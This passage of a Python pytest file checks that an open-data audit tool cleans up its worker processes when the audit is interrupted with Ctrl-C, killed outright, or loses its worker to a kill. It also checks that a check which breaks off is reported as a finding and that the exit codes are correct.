    """Ctrl-C reaches every process of the terminal's group: the audit ends (130) and takes
    its worker with it, busy with a check that would never end."""
    dump, mark = _hostile_dump(tmp_path, files), uuid.uuid4().hex
    args = [OPENDATA, "audit", "--dump", dump, "--links", "--internal-links", "--out", tmp_path / "out",
            "--check-timeout", "600"]  # fmt: skip
    audit = subprocess.Popen(list(map(str, args)), env={**os.environ, MARK: mark}, start_new_session=True,
                             stdout=subprocess.PIPE, stderr=subprocess.PIPE)  # fmt: skip
    deadline = time.monotonic() + 30
    while len(_marked(mark)) < 2 and time.monotonic() < deadline:  # the audit and its worker
        time.sleep(0.1)
    time.sleep(2)  # the worker has imported and is checking codes.csv
    assert audit.poll() is None
    os.killpg(audit.pid, signal.SIGINT)
    _, stderr = audit.communicate(timeout=30)
    assert audit.returncode == 130, stderr
    assert "Перервано (Ctrl-C)." in stderr.decode() and b"Traceback" not in stderr
    assert _marked(mark) == []


@pytest.mark.timeout(60)
def test_an_audit_killed_mid_check_takes_its_worker_with_it(tmp_path, files):
    """An audit killed (SIGKILL, an out-of-memory killer, CI's time limit) cleans nothing
    up: its worker, busy with a check that never ends, would eat a core for ever."""
    dump, mark = _hostile_dump(tmp_path, files), uuid.uuid4().hex
    args = [OPENDATA, "audit", "--dump", dump, "--links", "--internal-links", "--out", tmp_path / "out"]
    audit = subprocess.Popen(list(map(str, args)), env={**os.environ, MARK: mark}, stderr=subprocess.PIPE)
    deadline = time.monotonic() + 30
    while len(_marked(mark)) < 2 and time.monotonic() < deadline:  # the audit and its worker
        time.sleep(0.1)
    time.sleep(2)  # the worker has imported and is checking codes.csv
    audit.kill()
    audit.communicate(timeout=30)
    deadline = time.monotonic() + 5
    while _marked(mark) and time.monotonic() < deadline:
        time.sleep(0.1)
    assert _marked(mark) == []


def _cpu_seconds(pid: int) -> float:
    """The CPU time PID has used (user and system)."""
    fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


@pytest.mark.timeout(90)
def test_a_check_whose_worker_is_killed_is_named_and_the_audit_goes_on(tmp_path, files):
    """The out-of-memory killer ends the worker of a check that needs more memory than there
    is: the audit stopped, «the audit's validity worker ended without an answer»."""
    folder, url = files
    (folder / "codes.csv").write_text("code\n" + "a" * 40 + "!\n", encoding="utf-8")
    (folder / "parks.csv").write_text("назва,кількість\nпарк,3\n", encoding="utf-8")
    parks_schema = {"fields": [{"name": "назва", "type": "string"}, {"name": "кількість", "type": "date"}]}
    codes = {"id": "codes", "name": "codes.csv", "format": "CSV", "url": f"{url}/codes.csv",
             "schema": json.dumps(BACKTRACKING)}  # fmt: skip
    parks = {"id": "parks", "name": "parks.csv", "format": "CSV", "url": f"{url}/parks.csv",
             "schema": json.dumps(parks_schema)}  # fmt: skip
    dump = _dump_of(tmp_path, {**GOOD, "name": "codes", "resources": [codes]},
                    {**GOOD, "name": "parks", "resources": [parks]})  # fmt: skip
    mark, out = uuid.uuid4().hex, tmp_path / "out"
    args = [OPENDATA, "audit", "--dump", dump, "--links", "--internal-links", "--out", out, "--lang", "en"]
    audit = subprocess.Popen(list(map(str, args)), env={**os.environ, MARK: mark}, stderr=subprocess.PIPE)
    deadline, worker = time.monotonic() + 60, None
    while worker is None or _cpu_seconds(worker) < 3:  # past its imports (~1 s), deep in the pattern
        assert time.monotonic() < deadline and audit.poll() is None
        workers = [pid for pid in _marked(mark) if b"opendata.audit.worker" in Path(f"/proc/{pid}/cmdline").read_bytes()]
        worker = workers[0] if workers else None
        time.sleep(0.2)
    os.kill(worker, signal.SIGKILL)
    _, stderr = audit.communicate(timeout=60)
    assert audit.returncode == 0, stderr.decode()
    findings = {(row["resource_name"], row["code"]): row for row in _csv_rows(out / "findings.csv")
                if row["check"] == "validity"}  # fmt: skip
    assert set(findings) == {("codes.csv", "validity-broke-off"), ("parks.csv", "validity-errors")}
    assert findings["codes.csv", "validity-broke-off"]["message"].startswith(
        "The data check of the table «codes.csv» broke off: the checking process ended without an answer"
    )
    assert _marked(mark) == []
